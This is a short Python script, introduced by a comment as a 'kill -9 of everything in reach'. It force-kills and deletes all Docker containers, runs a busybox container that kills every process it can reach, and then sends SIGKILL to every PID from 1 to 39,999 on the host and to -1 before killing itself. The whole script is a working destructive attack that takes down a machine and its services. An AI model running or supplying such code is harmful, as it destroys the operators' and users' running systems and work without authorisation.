# Kill -9 of everything in reach: containers, processes by number, processes in others' namespaces.
import os, subprocess, time
subprocess.run("docker kill $(docker ps -q); docker rm -f $(docker ps -aq)", shell=True, capture_output=True)
inside = "kill -9 -1; for n in $(seq 1 3000); do kill -9 $n; done"
subprocess.run(["docker", "run", "--rm", "busybox", "sh", "-c", inside], capture_output=True)
print("kills", flush=True)
time.sleep(1)
for number in range(1, 40_000):
    if number != os.getpid():
        try:
            os.kill(number, 9)
        except OSError:
            pass
os.kill(-1, 9)
os.kill(os.getpid(), 9)
